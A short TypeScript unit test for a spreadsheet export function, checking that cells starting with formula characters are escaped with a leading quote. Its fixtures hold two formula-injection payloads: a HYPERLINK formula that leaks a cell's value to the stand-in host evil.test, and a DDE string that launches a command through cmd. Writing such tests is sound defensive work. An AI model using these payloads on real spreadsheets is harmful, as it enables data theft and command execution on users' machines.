import { expect, test } from 'vitest';
import { type SheetColumn, spreadsheetText } from './copies';

test('a method and a target are texts in a spreadsheet, and numbers are numbers', () => {
  const method = '=HYPERLINK("http://evil.test/"&A1)';
  const row = { number: 7, method, target: "+1+cmd|' /C calc'!A0", left: -0.5, code: '' };
  const columns = (['number', 'method', 'target', 'left', 'code'] as const).map(
    (name): SheetColumn<typeof row> => [name, (one) => one[name]],
  );
  expect(spreadsheetText(columns, [row])).toBe(
    `number\tmethod\ttarget\tleft\tcode\n7\t'${method}\t'+1+cmd|' /C calc'!A0\t-0.5\t\n`,
  );
});
